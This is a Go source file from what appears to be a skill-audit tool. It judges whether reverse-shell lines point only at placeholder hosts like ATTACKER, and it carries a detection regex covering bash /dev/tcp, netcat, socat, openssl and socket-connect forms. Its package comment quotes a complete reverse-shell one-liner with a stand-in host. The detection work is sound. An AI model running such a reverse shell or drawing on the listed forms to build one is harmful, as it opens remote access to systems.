// Package revplace judges a reverse shell written with a placeholder
// for its destination (`bash -i >& /dev/tcp/ATTACKER/PORT 0>&1`, a
// table of the forms a detection course teaches): a name like ATTACKER
// has no dot, so no public resolver gives it an address, and it
// connects nowhere until someone puts an address in its place. The
// judgement holds only while nothing of the skill gives that address:
// no line assigns the placeholder, sets it beside an address or URL, or
// writes a hosts file (fp19). The audit's placeholder_dest condition
// asks it.
package revplace

import (
	"regexp"
	"strings"

	"github.com/skillpin/skillpin/internal/catalog/audit/lazyre"
	"github.com/skillpin/skillpin/internal/catalog/audit/shellcmd"
)

var destLazy, holderLazy, addrLazy lazyre.RE

// destRE finds the destination of the reverse-shell forms it knows, as
// its first non-empty group: bash's /dev/tcp, a socket's connect or
// constructor given a host (Python, PowerShell, PHP, Ruby), openssl
// s_client, socat, netcat's host and port.
func destRE() *regexp.Regexp {
	return destLazy.Get(`/dev/(?:tcp|udp)/([^/\s]+)/|` +
		`(?:\.connect|TCPClient|fsockopen|TCPSocket\.(?:new|open)|socket\.create_connection)\(\s*\(?\s*["']([^"']*)["']|` +
		`-connect\s+([^:\s]+):|` +
		`\b(?i:(?:tcp|udp|openssl|ssl)[46]?(?:-connect)?):([^:\s,]+):|` +
		`\b(?:nc|ncat|netcat)(?:\s+-[a-zA-Z]+(?:\s+/\S+)?)*\s+([^\s|;&<>'"-][^\s|;&<>'"]*)\s+[A-Z0-9_]+\b`)
}

// holderRE: a placeholder: a capitalised name without a dot (ATTACKER,
// ATTACKER_IP, LHOST) or a word in angle brackets.
func holderRE() *regexp.Regexp {
	return holderLazy.Get(`^(?:[A-Z][A-Z0-9_]{2,}|<[A-Za-z_][\w-]*>)$`)
}

// addrRE: what gives a placeholder an address: an IPv4 or IPv6 literal,
// a URL, a hosts file.
func addrRE() *regexp.Regexp {
	return addrLazy.Get(`\b\d{1,3}(?:\.\d{1,3}){3}\b|\b[0-9a-fA-F]{1,4}(?::[0-9a-fA-F]{0,4}){2,}|://|/etc/hosts\b|\bhosts\s+file`)
}

// Placeholder reports that every destination of the reverse shells on
// line is a placeholder (at least one found; a form it does not know
// gives none) and that no line of the skill's files naming one of them
// assigns it (NAME= or NAME: with a value, $NAME), or names an address
// or URL, and no file names a hosts file.
func Placeholder(files []shellcmd.File, line string) bool {
	var holders []string
	for _, m := range destRE().FindAllStringSubmatch(line, -1) {
		d := ""
		for _, g := range m[1:] {
			if g != "" {
				d = g
				break
			}
		}
		if !holderRE().MatchString(d) {
			return false
		}
		holders = append(holders, d)
	}
	if len(holders) == 0 {
		return false
	}
	for _, f := range files {
		if strings.Contains(string(f.Data), "/etc/hosts") {
			return false
		}
		for _, l := range strings.Split(string(f.Data), "\n") {
			for _, h := range holders {
				if !strings.Contains(l, h) {
					continue
				}
				if addrRE().MatchString(l) || assigns(l, h) || hostRE().MatchString(l) {
					return false // "replace ATTACKER with relay.example.net"
				}
			}
		}
	}
	return true
}

var hostLazy lazyre.RE

// hostRE: a dotted name not called as a function (relay.example.net,
// but not a payload's s.connect( or os.dup2(; a file name counts too,
// which a line naming the placeholder has no need of).
func hostRE() *regexp.Regexp {
	return hostLazy.Get(`\b[A-Za-z0-9][\w-]*(?:\.[\w-]+)*\.[A-Za-z]{2,}(?:[^\w.(-]|$)`)
}

// assigns reports a line that gives the placeholder h a value: h=…,
// h: …, $h or ${h}, export h (not ATTACKER:PORT, openssl's and
// socat's host and port).
func assigns(l, h string) bool {
	q := regexp.QuoteMeta(h)
	return regexp.MustCompile(`\$\{?` + q + `\b|\b` + q + `\s*=|\b` + q + `\s*:\s|\bexport\s+` + q + `\b|\bset\s+` + q + `\b`).MatchString(l)
}
